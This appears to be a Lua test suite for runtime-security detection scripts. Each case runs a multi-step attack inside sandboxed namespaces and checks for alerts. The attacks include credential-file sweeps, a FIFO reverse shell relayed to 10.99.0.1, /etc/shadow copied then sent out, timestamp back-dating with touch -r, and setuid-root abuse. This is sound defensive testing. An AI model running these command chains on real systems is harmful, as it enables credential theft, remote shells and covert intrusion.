-- Detection scripts for attacks made of steps that are each harmless
-- (rules/detections/*.lua): for each, the packaged rules alone stay silent
-- on the attack, the script (loaded beside them) alerts, and a benign
-- look-alike stays silent.
--
-- Needs root: network steps run in a network namespace of their own
-- (10.99.0.1 on its lo), the privilege case runs steps as user nobody.
local H = require "spec.fixtures.detect.harness"

local ACT = H.build_act()
local D = "rules/detections/"
local RELAY = "spec/fixtures/detect/relay.py"
local q = H.q

local function sh(line) return { "sh", "-c", line } end

-- The attack under the rules alone, then under rules and script: alerts of
-- each run.
local function both(script, argv, wrap)
	local rc, rules_only, err = H.run_script(nil, argv, wrap, { "-R", "rules/" })
	assert.are.equal(0, rc, err)
	local rc2, with_script, err2 = H.run_script(D .. script, argv, wrap, { "-R", "rules/" })
	assert.are.equal(0, rc2, err2)
	return rules_only, with_script, err2
end

-- The attack: the rules alone stay silent, rules and script give one alert
-- of RULE, which is returned.
local function caught(script, rule, argv, wrap)
	local rules_only, alerts, err = both(script, argv, wrap)
	assert.are.same({}, rules_only)
	local a = H.of_rule(alerts, rule)
	assert.are.equal(1, #a, err)
	return a[1]
end

-- A benign look-alike under the script alone: it runs, and RULE is silent.
local function quiet(script, rule, argv, wrap)
	local rc, alerts, err = H.run_script(D .. script, argv, wrap)
	assert.are.equal(0, rc, err)
	assert.are.same({}, H.of_rule(alerts, rule))
end

local describe_root = H.is_root() and describe or pending

describe_root("detection: credential stores swept", function()
	local RULE, S = "Credential stores swept", "credential_burst.lua"
	local dir
	before_each(function()
		dir = H.tmpdir()
		H.sh("mkdir -p " .. q(dir .. "/.config/gh") .. " && cd " .. q(dir)
			.. " && for f in .npmrc .pypirc .config/gh/hosts.yml .bash_history .s3cfg; do echo x > $f; done")
	end)
	after_each(function() H.sh("rm -rf " .. q(dir)) end)

	it("alerts on four kinds read in one session; the rules alone say nothing", function()
		local f = function(n) return q(dir .. "/" .. n) end
		local a = { caught(S, RULE, sh("cat " .. f(".npmrc") .. " " .. f(".pypirc") .. " >/dev/null; cat "
			.. f(".config/gh/hosts.yml") .. " >/dev/null; " .. ACT .. " read " .. f(".bash_history")
			.. " read " .. f(".s3cfg"))) }
		assert.are.equal("github cli,history,npm,pypi", a[1].output_fields.kinds)
		assert.are.equal(S, a[1].output_fields["lanner.script"]:match("[^/]+$"))
	end)

	it("stays quiet for one store read again and again, and for stores read by their own tools", function()
		quiet(S, RULE, sh("for i in 1 2 3 4 5; do cat " .. q(dir .. "/.npmrc")
			.. " > /dev/null; done"))
		-- the same four files, each read by a program named as its owner
		H.sh("for n in npm twine gh bash; do cp " .. ACT .. " " .. q(dir) .. "/$n; done")
		quiet(S, RULE, sh("cd " .. q(dir) .. " && ./npm read .npmrc && ./twine read .pypirc"
			.. " && ./gh read .config/gh/hosts.yml && ./bash read .bash_history"))
	end)
end)

describe_root("detection: shell driven through a network relay", function()
	local RULE, S = "Shell driven through a network relay", "relay_shell.lua"
	local dir
	before_each(function() dir = H.tmpdir() end)
	after_each(function() H.sh("rm -rf " .. q(dir)) end)
	-- a "remote" end on 10.99.0.1:9001 that sends one command
	local function wrap()
		return H.netns(ACT, "python3 " .. RELAY .. " serve 10.99.0.1 9001 " .. q(dir .. "/ready") .. " > "
			.. q(dir .. "/got") .. " & while [ ! -e " .. q(dir .. "/ready") .. " ]; do sleep 0.05; done")
	end

	it("alerts on cat FIFO | sh -i | relay > FIFO; the rules alone say nothing", function()
		local f = q(dir .. "/f")
		local a = { caught(S, RULE, sh("mkfifo " .. f .. "; cat " .. f .. " | sh -i 2>&1 | python3 "
			.. RELAY .. " relay 10.99.0.1 9001 > " .. f), wrap()) }
		assert.matches("10%.99%.0%.1:9001", a[1].output_fields["relay.connection"])
		assert.matches("relayed", H.read(dir .. "/got") or "")
	end)

	it("stays quiet for a download piped into a shell, and a shell piped into a local program", function()
		quiet(S, RULE, sh("printf 'true\\n' | python3 " .. RELAY
			.. " relay 10.99.0.1 9001 | sh > /dev/null"), wrap())
		quiet(S, RULE, sh("printf 'echo hi\\n' | sh | cat > /dev/null"))
	end)
end)

describe_root("detection: root gained after a run of refusals", function()
	local RULE, S = "Root gained after a run of refusals", "refusals_then_root.lua"
	-- a setuid-root copy of act: the "misconfigured helper" that works (in
	-- build/, not a temp dir, where running it would raise a rule of its own)
	local suid = "build/test/suid-helper"
	before_each(function() H.sh("cp " .. ACT .. " " .. suid .. " && chmod 4755 " .. suid) end)
	after_each(function() H.sh("rm -f " .. suid) end)
	local function as_nobody(line)
		return { "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "sh", "-c", line }
	end

	it("alerts when a user refused 12 times then runs a setuid-root program; the rules alone say nothing", function()
		local a = { caught(S, RULE, as_nobody(ACT .. " failopen 12 /root; " .. q(suid) .. " setuid 0")) }
		assert.are.equal(65534, a[1].output_fields["uid.before"])
		assert.are.equal(12, a[1].output_fields.refusals)
	end)

	it("stays quiet for the setuid program without refusals, and for refusals without root", function()
		quiet(S, RULE, as_nobody(ACT .. " failopen 2 /root; " .. q(suid) .. " setuid 0"))
		quiet(S, RULE, as_nobody(ACT .. " failopen 30 /root; " .. ACT .. " read /etc/hostname"))
	end)
end)

describe_root("detection: discovery commands in a burst", function()
	local RULE, S = "Discovery commands in a burst", "recon_burst.lua"

	it("alerts when one shell runs six discovery programs; the rules alone say nothing", function()
		local a = { caught(S, RULE, sh("id; uname -a; hostname; ps -e; env; df; true")) }
		assert.are.equal("df,env,hostname,id,ps,uname", a[1].output_fields.programs)
	end)

	it("stays quiet for a script that runs three of them, twice, among other work", function()
		quiet(S, RULE, sh("id; uname; hostname; ls /; cat /etc/hostname; id; uname -a;"
			.. " hostname; true"))
	end)
end)

describe_root("detection: back-dated program run", function()
	local RULE, S = "Back-dated program run", "backdated_exec.lua"
	-- outside temp dirs, where running it would raise a rule of its own
	local dir = "build/test/backdated"
	before_each(function() H.sh("rm -rf " .. dir .. " && mkdir -p " .. dir) end)
	after_each(function() H.sh("rm -rf " .. dir) end)

	it("alerts on write, touch -r /bin/ls, rename, run; the rules alone say nothing", function()
		local a = { caught(S, RULE, sh("cp /bin/true " .. dir .. "/t && touch -r /bin/ls " .. dir
			.. "/t && mv " .. dir .. "/t " .. dir .. "/u && " .. dir .. "/u")) }
		assert.are.equal("cp", a[1].output_fields["writer.name"])
		assert.are.equal("touch", a[1].output_fields["backdated.by"])
		assert.matches("/t$", a[1].output_fields["file.path"])
	end)

	it("stays quiet for cp -p (the writer keeps the old times), and for a touch to now", function()
		quiet(S, RULE, sh("cp -p /bin/true " .. dir .. "/t && " .. dir .. "/t"))
		quiet(S, RULE, sh("cp /bin/true " .. dir .. "/t && touch -d @978307200 " .. dir .. "/t && touch "
			.. dir .. "/t && " .. dir .. "/t"))
	end)
end)

describe_root("detection: downloaded file executed, by identity", function()
	local RULE, S = "Downloaded file executed", "download_exec.lua"
	local dir = "build/test/download"
	before_each(function() H.sh("rm -rf " .. dir .. " && mkdir -p " .. dir) end)
	after_each(function() H.sh("rm -rf " .. dir) end)

	it("follows the file through a rename and a copy, the file opened before the connection", function()
		local a = { caught(S, RULE, sh(ACT .. " write " .. dir .. "/a /bin/true connect 10.99.0.1 8080"
			.. " && mv " .. dir .. "/a " .. dir .. "/b && cp " .. dir .. "/b " .. dir .. "/c && chmod 755 "
			.. dir .. "/c && " .. dir .. "/c"), H.netns(ACT)) }
		assert.are.equal("cp", a[1].output_fields["writer.name"])
		assert.are.equal("detect_act", a[1].output_fields["download.writer"])
		assert.matches("/a$", a[1].output_fields["download.path"])
	end)

	it("stays quiet for a copy of a file no networked process wrote", function()
		quiet(S, RULE, sh(ACT .. " connect 10.99.0.1 8080 && cp /bin/true " .. dir .. "/a && mv " .. dir .. "/a "
			.. dir .. "/b && " .. dir .. "/b"), H.netns(ACT))
	end)
end)

describe_root("detection: secret read then outbound connection, across shells and copies", function()
	local RULE, S = "Secret read then outbound connection", "secret_then_connect.lua"
	local dir
	before_each(function() dir = H.tmpdir() end)
	after_each(function() H.sh("rm -rf " .. q(dir)) end)

	it("joins a copy made in one shell and sent from another", function()
		local rc, alerts, err = H.run_script(D .. S, sh("sh -c 'cat /etc/shadow > " .. dir .. "/s'; sh -c '"
			.. ACT .. " read " .. dir .. "/s connect 10.99.0.1 8080'"), H.netns(ACT))
		assert.are.equal(0, rc, err)
		local a = H.of_rule(alerts, RULE)
		assert.are.equal(1, #a, err)
		assert.are.equal("/etc/shadow", a[1].output_fields["secret.name"])
		assert.are.equal(dir .. "/s", a[1].output_fields["secret.copy"])
	end)

	it("stays quiet when the copy is of something else", function()
		quiet(S, RULE, sh("sh -c 'cat /etc/hostname > " .. dir .. "/s'; sh -c '" .. ACT .. " read " .. dir
			.. "/s connect 10.99.0.1 8080'"), H.netns(ACT))
	end)
end)

describe_root("detection: setuid 0 then a write below a binary directory, by a grandchild", function()
	local RULE, S = "Write below binary dir after setuid root", "setuid_bindir.lua"
	local MNTNS = "unshare -m sh -c " .. q('mount -t tmpfs none /usr/local/bin && eval "$LCMD"')
	local script = "build/test/setuid-then-write.sh"
	before_each(function()
		local f = assert(io.open(script, "w"))
		f:write("#!/bin/sh\nsh -c '", ACT, " write /usr/local/bin/evil'\n")
		f:close()
		H.sh("chmod 755 " .. script)
	end)
	after_each(function() os.remove(script) end)

	it("alerts on the write two generations below the setuid(0)", function()
		local rc, alerts, err = H.run_script(D .. S, { ACT, "setuid", "0", "run", script }, MNTNS)
		assert.are.equal(0, rc, err)
		assert.are.equal(1, #H.of_rule(alerts, RULE), err)
	end)

	it("stays quiet for the same write without the setuid", function()
		quiet(S, RULE, { ACT, "run", script }, MNTNS)
	end)
end)
